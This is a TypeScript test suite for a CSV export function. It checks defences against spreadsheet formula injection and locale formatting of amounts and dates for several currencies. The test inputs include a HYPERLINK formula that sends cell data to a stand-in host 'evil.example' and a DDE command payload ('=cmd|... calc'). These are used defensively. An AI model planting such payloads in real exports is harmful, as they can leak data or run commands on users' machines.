import { parse } from 'csv-parse/sync';
import { type CsvCell, writeCsv } from '@/lib/domain/text/csv';

const BOM = '\uFEFF';
const oneCell = (cell: CsvCell, currency: 'COP' | 'MXN' | 'BRL' | 'PEN' | 'CLP' | 'USD' = 'COP') =>
  writeCsv({ head: ['x'], rows: [[cell]], currency }).split('\r\n')[1];
/** The cell as a spreadsheet reads it that parts the line at `delimiter`. */
const readAs = (words: string, delimiter: string): string[] =>
  parse(writeCsv({ head: ['x'], rows: [[words]], currency: 'COP' }), {
    ...{ delimiter, bom: true, relax_column_count: true, relax_quotes: true, from_line: 2 },
  }).flat();

test.each([
  ['=1+1'],
  ['+57 300 123 4567'],
  ['-2+3'],
  ['@SUM(A1)'],
  ['\t=1+1'],
  ['\r=1+1'],
  ['  =1+1'],
  ['\u00a0=1+1'],
  ['\u200b=1+1'],
  ['"=1+1'],
  ["'=1+1"],
  [' "\' @x'],
  ['\n=1+1'],
  ['＝1+1'],
  ['＋1'],
  ['－1'],
  ['＠x'],
  ['=HYPERLINK("http://evil.example/?"&A1;"Ver")'],
  ["=cmd|' /C calc'!A0"],
  ['\0=1+1'],
])('the words %j are no formula (rule staff/csv)', (words) => {
  const [cell = ''] = readAs(words, ';');
  expect(cell.startsWith("'")).toBe(true);
  expect(cell).toContain(words.replaceAll('\0', '').trimStart().slice(-4));
});

test.each([
  ['Ana,=cmd', ','],
  ['Ana\t@x', '\t'],
  ['Ana, "+1', ','],
  ['Ana\n=1+1', ','],
])('the words %j are none either where a spreadsheet parts lines at %j', (words, delimiter) => {
  for (const cell of readAs(words, delimiter)) expect(cell.trim()).not.toMatch(/^"*\s*[=+\-@]/);
});

test.each([
  ['Café «Ñandú», 2º piso', '"Café «Ñandú», 2º piso"'],
  ['dijo "hola"', '"dijo ""hola"""'],
  ['uno;dos', '"uno;dos"'],
  ['a-b = c', '"a-b = c"'],
  ['', '""'],
])('harmless words stay as they are: %j', (words, field) => {
  expect(oneCell(words)).toBe(field);
});

test.each([
  ['COP', '12500', '1,5', '24/11/2026 19:05'],
  ['CLP', '12500', '1,5', '24-11-2026 19:05'],
  ['BRL', '12500,00', '1,5', '24/11/2026 19:05'],
  ['MXN', '12500.00', '1.5', '24/11/2026 19:05'],
  ['PEN', '12500.00', '1.5', '24/11/2026 19:05'],
  ['USD', '12500.00', '1.5', '11/24/2026 19:05'],
] as const)('%s writes amounts, numbers and instants as its country does', (currency, amount, number, at) => {
  expect(oneCell({ amount: 12_500 }, currency)).toBe(amount);
  expect(oneCell(1.5, currency)).toBe(number);
  expect(oneCell({ at: '2026-11-25T00:05:00Z', timezone: 'America/Bogota' }, currency)).toBe(at);
});

test('an amount that goes out keeps its sign as a number, and a day is a day everywhere', () => {
  expect(oneCell({ amount: -24.9 }, 'BRL')).toBe('-24,90');
  expect(oneCell({ day: '2026-03-01' }, 'USD')).toBe('03/01/2026');
  expect(oneCell(null)).toBe('');
});

test('cells are parted by the mark that the country has no decimals with', () => {
  const table = (currency: 'COP' | 'MXN') =>
    writeCsv({ head: ['Número', '=Total'], rows: [[7, { amount: 10 }]], currency });
  expect(table('COP')).toBe(`${BOM}"Número";"'=Total"\r\n7;10\r\n`);
  expect(table('MXN')).toBe(`${BOM}"Número","'=Total"\r\n7,10.00\r\n`);
});
